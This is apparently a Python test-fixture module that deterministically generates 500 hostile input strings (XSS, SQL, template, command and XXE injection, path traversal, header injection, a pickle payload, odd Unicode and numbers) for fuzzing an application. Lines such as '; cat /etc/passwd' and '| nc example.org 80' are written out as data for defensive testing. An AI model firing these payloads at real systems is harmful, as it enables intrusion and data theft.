"""Five hundred strings that nobody types by accident, the same ones each time."""

from __future__ import annotations

import re
from itertools import cycle, islice
from urllib.parse import quote

HOW_MANY = 500
CONTROLS = [chr(number) for number in (*range(32), *range(127, 160))]
UNSEEN = [
    *("\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u061c", "\u180e"),
    *("\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2069", "\u2028"),
    *("\u2029", "\ufffe", "\uffff", "\ufffd", "\U000e0041", "\U0010ffff", "\U0001fffe"),
    *("\ud800", "\udbff", "\udc00", "\udfff", "\ud83d", "\ude00\ud83d", "a\ud800b"),
]
MARKUP = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><iframe srcdoc='<p>'>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    "<!--<![CDATA[",
    "]]><x/>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "<base href=//example.org>",
    "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "<b><b><b><b>",
    "<" * 40,
]
CODE = [
    "{{ 1336|add:1 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{# x #}",
    "{%",
    "}}",
    "${1336+1}",
    "#{1336+1}",
    "<%= 1336+1 %>",
    "{0.__class__.__mro__}",
    "%(key)s %s %n %x",
    "__import__('os').system('id')",
    "'; DROP TABLE orders_order; --",
    "' OR '1'='1",
    "1) UNION SELECT 1,2,3 --",
    "\\'; SELECT pg_sleep(9); --",
    "a' || (SELECT 1) || '",
    "* OR NEAR(",
    '"unbalanced',
    "col:value AND NOT",
    "%' ESCAPE '\\",
    "a & !b | (c <-> d) :*",
    "*)(uid=*))(|(uid=*",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| nc example.org 80",
    '{"$gt": ""}',
    "[[[[]]]]",
    '{"a":{"a":{"a":{}}}}',
    "null",
    "undefined",
    "true",
    "&x: [*x, *x]",
    'O:8:"stdClass":0:{}',
    "cos\nsystem\n(S'id'\ntR.",
]
# What CODE gives where it is computed; within a random token it says nothing.
COMPUTED = re.compile(r"1337(?<![\w-]1337)(?![\w-])")
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\0.html",
    "....//....//",
    "file:///etc/passwd",
    "//example.org/",
    "/\\example.org",
    "\\\\example.org\\x",
    "https://example.org",
    "https:example.org",
    "/%09/example.org",
    "javascript:alert(1)",
    "data:text/html,<b>",
    "\t//example.org",
    "http://127.0.0.1:22/",
    "?q=1&q=2#x",
    ";jsessionid=1",
    ".",
    "..",
    "/",
    "//",
    "CON",
    ".git/config",
]
HEADERS = [
    "x\r\nSet-Cookie: a=b",
    "x\nBcc: other@example.org",
    "x\r\n\r\n<html>",
    "%0d%0aSet-Cookie:%20a=b",
    "\u560a\u560dSet-Cookie: a=b",
    "a@example.org,b@example.org",
    '"a b"@example.org',
    "a@[127.0.0.1]",
    "a@b",
    "@",
    "a@" + "b" * 300 + ".example.org",
    "ü@exämple.org",
    "a@example.org\0",
    "=?utf-8?b?eA==?=",
]
NUMBERS = [
    *("0", "-1", "-0", "+1", "1.5", "1,5", "1e3", "1e999", "0x10", "0b1", "1_000"),
    *("NaN", "Infinity", "-inf", "٣", "１２", "½", "²", "Ⅷ", "四", " 1 ", "1 2"),
    *("2147483648", "4294967296", "9223372036854775808", "9" * 400, "-" + "9" * 400),
    *("4111 1111 1111 1111", "GB33BUKB20201555555555", "QQ 12 34 56 C", "00000000"),
]
LONG = [
    "x" * 5_000,
    "x" * 60_000,
    "é" * 20_000,
    "\u0301" * 5_000,
    "Z" + "\u0335\u0322" * 400,
    "😀" * 5_000,
    "ﷺ" * 2_000,
    "ffi" * 3_000,
    "(" * 5_000,
    "[" * 20_000,
    "{{" * 2_000,
    "<b>" * 4_000,
    "a@" * 4_000,
    "%25" * 4_000,
    "../" * 4_000,
    " " * 10_000,
    "\n" * 10_000,
    "\0" * 1_000,
    "a" * 40 + "!",
    "0" * 5_000,
    "\u202e" * 3_000,
]
EMPTY = ["", " ", "\t", "\u3000", "\u00a0", "\u2800", "\u3164"]


SEEDS = [*MARKUP, *CODE, *PATHS, *HEADERS, *NUMBERS]


def hostile():
    """Return them all: the plain ones, then those bent until there are enough."""
    seeds, plain = SEEDS, [*SEEDS, *LONG, *EMPTY, *UNSEEN]
    plain += (f"a{each}b" for each in CONTROLS)
    bent = (bend(seed) for seed, bend in zip(cycle(seeds), cycle(BENDS), strict=False))
    found = dict.fromkeys(plain)
    found.update(dict.fromkeys(islice(bent, 3 * HOW_MANY)))
    return [*found][:HOW_MANY]


def plain():
    """Return the half that is not bent, with all that PostgreSQL takes otherwise."""
    return hostile()[: HOW_MANY // 2]


def bent():
    """Return the other half, and the numbers, of which SQLite has none above 2^63."""
    return [*NUMBERS, *EMPTY, *CONTROLS[:2], *hostile()[HOW_MANY // 2 :]]


def _reversed(text):
    return f"\u202e{text[::-1]}\u202c"


BENDS = (
    lambda text: f"Maya {text} Okafor",
    quote,
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.replace(" ", "\0"),
    lambda text: "".join(f"%u{ord(each):04x}" for each in text),
    _reversed,
    lambda text: text * 7,
    lambda text: f"{text}\ud800",
    str.upper,
    lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    lambda text: "\u200b".join(text),
)
